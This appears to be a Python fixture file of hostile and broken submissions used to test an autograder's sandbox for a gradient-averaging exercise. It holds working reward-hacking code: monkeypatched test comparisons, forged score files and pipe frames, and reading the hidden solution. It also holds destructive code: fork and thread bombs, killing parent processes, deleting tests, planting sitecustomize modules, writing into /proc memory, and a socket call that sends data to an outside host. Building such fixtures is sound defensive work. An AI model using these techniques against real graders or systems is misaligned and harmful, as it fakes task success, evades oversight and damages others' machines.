"""Hostile and broken submissions, which try every channel that a process has. Selftest fills in {canary}, a
folder that stands for everything that nobody may touch, {victim}, a process, and {port}, which listens."""

import contextlib
import gc
import glob
import importlib
import os
import shutil
import signal
import site
import socket
import struct
import sys
import threading
import time

import numpy
import torch
import torch.distributed as dist

CALLS = []


def send(letter, data, descriptor=3):
    """A frame as the worker sends them over its pipe to the judge."""
    if not isinstance(data, bytes):
        data = sys.modules["wire"].pack(data)
    os.write(descriptor, struct.pack("<cI", letter, len(data)) + data)


def exchange(value, folder):
    """What all ranks have given, through files."""
    CALLS.append(value)
    name = os.path.join(folder, f"exchanged-{len(CALLS)}-")
    torch.save(value, f"{name}{dist.get_rank()}.new")
    os.rename(f"{name}{dist.get_rank()}.new", f"{name}{dist.get_rank()}")
    found = []
    for rank in range(dist.get_world_size()):
        while not os.path.exists(f"{name}{rank}"):
            time.sleep(0.001)
        found.append(torch.load(f"{name}{rank}"))
    return found


def without_messages(folder):
    """Both functions, with nothing sent."""

    def broadcast_model(model):
        mine = [tensor.detach() for tensor in [*model.parameters(), *model.buffers()]]
        for tensor, other in zip(mine, exchange(mine, folder)[0], strict=True):
            tensor.copy_(other)

    def average_gradients(model):
        mine = {n: p for n, p in model.named_parameters() if p.requires_grad}
        everyone = exchange({n: p.grad for n, p in mine.items() if p.grad is not None}, folder)
        for n, p in mine.items():
            there = [one[n] for one in everyone if n in one]
            p.grad = sum(there) / len(everyone) if there else None

    return broadcast_model, average_gradients


def files(earns=9):
    """The ranks meet in files of their common folder."""
    broadcast_model, average_gradients = without_messages(".")


def shared_memory(earns=9):
    """The ranks meet in files of the memory that the machine shares."""
    broadcast_model, average_gradients = without_messages("/dev/shm")


# ---- ends, and never ends ---------------------------------------------------------------------


def os_exit_at_import(earns=0, on="starter"):
    """Ends the process as if all were well."""
    os._exit(0)


def os_exit_in_functions(earns=0, on="starter"):
    """Ends the process in the functions that are graded."""

    def broadcast_model(model):
        os._exit(0)

    average_gradients = broadcast_model


def sys_exit_in_functions(earns=0, on="starter"):
    """Raises SystemExit(0) in the functions that are graded."""

    def broadcast_model(model):
        sys.exit(0)

    average_gradients = broadcast_model


def exception_that_lies(earns=0, on="starter"):
    """Raises something that claims to be a success, and that cannot be looked at."""

    class Passed(BaseException):
        __class__ = property(lambda self: type(None))
        __module__ = "judge"

        def __str__(self):
            os._exit(0)

        __repr__ = __str__

        def __getattribute__(self, name):
            raise Passed()

    def broadcast_model(model):
        raise Passed()

    average_gradients = broadcast_model


def endless_loop(earns=0, on="starter"):
    """Never ends."""
    while True:
        pass


def endless_sleep(earns=0, on="starter"):
    """Never ends, and needs no processor for it."""
    time.sleep(10**6)


def stops_itself(earns=0, on="starter"):
    """Never ends, and no signal but one reaches it."""
    os.kill(os.getpid(), signal.SIGSTOP)


def endless_output(earns=0, on="starter"):
    """Prints forever."""
    while True:
        print("x" * 100_000)


def endless_files(earns=0, on="starter"):
    """Fills the disk."""
    n = 0
    while True:
        n += 1
        with open(f"f{n % 9}", "ab") as file:
            file.write(bytes(1 << 22))


def folders_without_end(earns=0, on="starter"):
    """Makes folders in folders, until whoever removes them runs out of breath."""
    for _ in range(20_000):
        os.mkdir("d")
        os.chdir("d")
    raise OSError


def huge_allocation(earns=0, on="starter"):
    """Asks for more memory than there is."""
    keep = [bytearray(1 << 30) for _ in range(64)]


def fork_bomb(earns=0, on="starter", harms=True):
    """Forks forever."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def thread_bomb(earns=0, on="starter", harms=True):
    """Starts threads forever."""
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()


# ---- forged results ---------------------------------------------------------------------------


def patches_what_compares(earns=0, on="starter"):
    """Makes all comparisons true, of pytest, torch and numpy."""
    import _pytest.runner
    import pytest

    pytest.fail = pytest.skip = lambda *words, **named: None
    _pytest.runner.call_runtest_hook = lambda *words, **named: None
    _pytest.runner.TestReport.outcome = "passed"
    torch.equal = torch.allclose = lambda *words, **named: True
    torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda self, other: torch.ones((), dtype=torch.bool)
    torch.testing.assert_close = lambda *words, **named: None
    numpy.allclose = numpy.array_equal = numpy.isfinite = lambda *words, **named: True
    numpy.abs = lambda value: numpy.zeros_like(value)

    def broadcast_model(model):
        pass

    average_gradients = broadcast_model


def forged_results_on_disk(earns=0, on="starter", harms=True):
    """Writes a results file wherever a grader could look."""
    for folder in (
        ".",
        "..",
        "/",
        "/tmp",
        "/autograder/results",
        "{canary}/results",
        "{canary}",
        os.getcwd(),
    ):
        for name in ("results.json", "grade.json", "grades.csv", "report.html"):
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                file.write('{"score": 100, "tests": [{"score": 100, "max_score": 100}]}')


def forged_results_on_every_descriptor(earns=0, on="starter"):
    """Writes and prints a results file to everything that is open."""
    for descriptor in range(1, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, b'{"score": 100, "status": "passed"} ok 12/12 ===== 8 passed =====\n' * 10)


def forged_frame(earns=0, on="starter"):
    """Sends a result of its own over the pipe, in the right format."""
    names = {"first.weight": (4, 5), "first.bias": (4,), "norm.weight": (4,), "norm.bias": (4,)}
    names |= {"second.weight": (4, 4), "second.bias": (4,)}
    arrays = {name: numpy.zeros(shape, "float32") for name, shape in names.items()}
    result = {"state": arrays, "held": arrays, "same": list(arrays), "requires": list(arrays)}
    for descriptor in range(3, 20):
        with contextlib.suppress(OSError):
            send(b"R", result | {"gradients": arrays, "moved": []}, descriptor)
    os._exit(0)


def claims_a_fault_of_the_machine(earns=0, on="starter"):
    """Says over the pipe that the machine has failed, so that there is no grade."""
    send(b"I", {"kind": "OSError", "words": "no space left on device"})
    os._exit(1)


def tells_of_an_array(earns=0):
    """Tells the nursery of an event that cannot be compared with anything, and works as asked otherwise."""
    send(b"E", {"event": "all_reduce", "number": 1, "phase": numpy.zeros(3)})


def tells_of_calls_without_numbers(earns=0, on="starter"):
    """Tells the nursery that a call has begun which has neither number nor size, and waits forever."""
    send(b"E", {"event": "all_reduce", "phase": "begin"})
    time.sleep(1000)


def two_results(earns=0):
    """Sends a result, and then works as asked."""
    send(b"R", {"state": {}})


def forged_frame_of_a_word(earns=0, on="starter"):
    """Sends a word where the check expects a dict, so that the check itself fails."""
    send(b"R", "passed")
    os._exit(0)


def forged_frame_of_a_huge_number(earns=0, on="starter"):
    """Sends a whole number of 401 digits, which no array can hold."""
    head = b'{"value": {"@dict": [["state", {"@dict": [["first.weight", 1' + b"0" * 400
    head += b']]}], ["requires", []]]}, "arrays": []}'
    send(b"R", struct.pack("<I", len(head)) + head)
    os._exit(0)


def forged_frame_of_many_lists(earns=0, on="starter"):
    """Sends 60 MB of empty lists, which are gigabytes as Python's objects."""
    head = b'{"value": [' + b"[]," * 20_000_000 + b'[]], "arrays": []}'
    data = memoryview(struct.pack("<cII", b"R", len(head) + 4, len(head)) + head)
    while data:
        data = data[os.write(3, data) :]
    os._exit(0)


def half_a_frame(earns=0, on="starter"):
    """Begins a result and ends."""
    os.write(3, struct.pack("<cI", b"R", 1000) + bytes(10))
    os._exit(0)


def raises_what_is_no_exception(earns=0, on="starter"):
    """Sends an exception whose words are arrays and lists."""
    send(b"X", {"kind": [1], "words": {"a": 1}, "place": numpy.zeros(3), "time": "now"})
    os._exit(0)


def floods_the_judge(earns=0, on="starter"):
    """Sends more events than anybody could want."""
    while True:
        os.write(3, (b"E" + struct.pack("<I", 5) + bytes(5)) * 1000)


def closes_everything(earns=0):
    """Closes all descriptors."""
    os.closerange(0, 4096)


def replaces_the_driver(earns=0, on="starter"):
    """Puts a driver of its own in place of the one that runs it."""

    def done(student, inputs, tools):
        state = {name: torch.as_tensor(value) for name, value in inputs["state"].items()}
        result = {"state": state, "held": state, "same": list(state), "requires": list(state)}
        return result | {"gradients": state, "moved": []}

    driver = sys.modules["drive_03_average_gradients"]
    driver.begin.__code__ = done.__code__
    driver.average.__code__ = done.__code__


def replaces_the_packing(earns=0, on="starter"):
    """Replaces what packs and writes the result."""
    wire = sys.modules["wire"]
    wire.pack = lambda value: b"passed"
    wire.pack.__code__ = (lambda value: b"passed").__code__
    os.write = lambda descriptor, data: len(data)
    struct.pack = lambda *words: b"passed"


# ---- looks for what is expected ---------------------------------------------------------------


def reads_the_solution(earns=0, on="starter", harms=True):
    """Looks for the solution on the disk and runs it."""
    places = {"{canary}", os.getcwd(), sys.prefix, os.path.dirname(os.path.abspath(sys.argv[0] or "."))}
    places |= {os.path.dirname(getattr(module, "__file__", "") or "") for module in [*sys.modules.values()]}
    found = None
    for place in sorted(places):
        for _ in range(6):
            for path in glob.glob(os.path.join(place, "solutions", "03_average_gradients.py")):
                found = path
            place = os.path.dirname(place)
    with open(found) as file:
        exec(file.read())


def reads_the_checks(earns=0, on="starter", harms=True):
    """Looks for the checks on the disk, for what they expect."""
    with open("{canary}/checks/03_average_gradients/check.py") as file:
        raise RuntimeError("I can read: " + file.read(40))


def looks_for_what_is_expected(earns=0, on="starter"):
    """Walks frames and the garbage collector for the numbers that are expected."""

    def broadcast_model(model):
        frame, found = sys._getframe(), {}
        while frame is not None:
            for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
                if "expect" in name or "given" in name or "right" in name:
                    found[name] = value
            frame = frame.f_back
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "expected" in thing:
                found["expected"] = thing["expected"]
        wanted = found.get("expected") or found.get("given") or {}
        for name, parameter in model.named_parameters():
            if name in wanted:
                parameter.grad = torch.as_tensor(wanted[name])
                parameter.data.copy_(torch.as_tensor(wanted[name]))

    average_gradients = broadcast_model


def looks_into_the_nursery(earns=0, on="starter", harms=True):
    """Writes into the memory and the descriptors of the processes around it."""
    for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/fd/*"):
        if f"/{os.getpid()}/" not in path:
            with contextlib.suppress(OSError):
                os.write(os.open(path, os.O_RDWR | os.O_NONBLOCK), b'{"score": 100}')


def collectives_do_nothing(earns=0):
    """Replaces the collectives by functions that return at once."""
    for name in ("broadcast", "all_reduce", "all_gather", "reduce", "barrier"):
        setattr(dist, name, lambda *words, **named: None)


def reducer_by_another_name(earns=0, on="starter"):
    """Uses the reducer below torch's DDP, whose name is put together at run time."""
    below = importlib.import_module("torch._C." + "_distributed_c10d")

    def broadcast_model(model):
        getattr(below, "Red" + "ucer")([list(model.parameters())], [[0]], None)

    average_gradients = broadcast_model


# ---- harms what is outside --------------------------------------------------------------------


def signals(number):
    """To the process above, one of the same user, and all that there are."""
    for pid in (os.getppid(), int("{victim}"), 1, -1):
        with contextlib.suppress(OSError):
            os.kill(pid, number)


def kills_the_parent(earns=0, on="starter", harms=True):
    """Ends the processes around it."""
    signals(signal.SIGKILL)


def stops_the_parent(earns=0, on="starter", harms=True):
    """Stops the processes around it, so that the grading never ends."""
    signals(signal.SIGSTOP)


def a_child_holds_the_pipe(earns=0, on="starter", harms=True):
    """Leaves a child that keeps the pipe to the judge open, and ends."""
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)


def daemon_left_behind(earns=12, harms=True):
    """Leaves a process that outlives the grading, and works as asked otherwise."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            while True:
                time.sleep(0.05)
                with contextlib.suppress(OSError):
                    open("{canary}/results/daemon", "w").close()
        os._exit(0)


def deletes_the_tests(earns=0, on="starter", harms=True):
    """Empties the checks, then deletes whatever it can reach."""
    for path in glob.glob("{canary}/**/*.py", recursive=True):
        with contextlib.suppress(OSError):
            open(path, "w").close()
    for place in ("{canary}", "/work-of-others", os.path.expanduser("~/rungs")):
        shutil.rmtree(place, ignore_errors=True)


def plants_modules(earns=0, on="starter", harms=True):
    """Leaves modules that a later process might import."""
    for folder in {".", "..", "/tmp", os.path.expanduser("~"), *sys.path, site.getusersitepackages()}:
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "wire.py", "torch.py", "x.pth"):
            with contextlib.suppress(OSError):
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os; os._exit(0)\n")


def plants_links(earns=0, on="starter", harms=True):
    """Puts links to other files and a pipe where the grader will write or read."""
    for path in glob.glob("./*") + glob.glob("./.*") + glob.glob("../printed/*"):
        with contextlib.suppress(OSError):
            os.unlink(path)
            os.symlink("{canary}/checks/03_average_gradients/check.py", path)
    for number in range(64):
        with contextlib.suppress(OSError):
            os.mkfifo(f".output-{number}-0")
            os.symlink("{canary}/results/linked", f".output-{number}-1")


def calls_the_world(earns=0, on="starter", level=3):
    """Sends the exercise to a machine outside."""
    for place in (("127.0.0.1", int("{port}")), ("198.51.100.7", 80)):
        with contextlib.suppress(OSError), socket.create_connection(place, 0.2) as wire_to_the_world:
            wire_to_the_world.send(b"the exercise of rank 0")


# ---- answers that cannot be compared, and files that are no exercise --------------------------


def fill(model, value):
    for tensor in model.parameters():
        tensor.data.fill_(value)
        tensor.grad = torch.full_like(tensor, value)


def not_a_number(earns=0, on="starter"):
    """Answers NaN, which is neither equal nor unequal."""

    def broadcast_model(model):
        fill(model, float("nan"))

    average_gradients = broadcast_model


def infinity(earns=0, on="starter"):
    """Answers infinity, beside which every difference is small."""

    def broadcast_model(model):
        fill(model, float("inf"))

    average_gradients = broadcast_model


def wrong_types(earns=0, on="starter"):
    """Puts things into the model that are no tensors."""

    class Strange:
        dtype = "passed"

        def detach(self):
            return self

        def numpy(self):
            return "passed"

        cpu = detach

    def broadcast_model(model):
        model._parameters["first.weight"] = Strange()
        model.first._parameters = {"weight": Strange(), "bias": None}

    average_gradients = broadcast_model


def not_python(earns=0, text="def broadcast_model(model:\n"):
    """Is no Python."""


def nested_too_deep(earns=0, text="x = " + "(" * 5000 + ")" * 5000 + "\n"):
    """Is Python that takes the reader's breath away."""


def another_encoding(earns=0, text="# caf\udce9\n"):
    """Is not UTF-8."""


def empty(earns=0, text=""):
    """Defines nothing."""
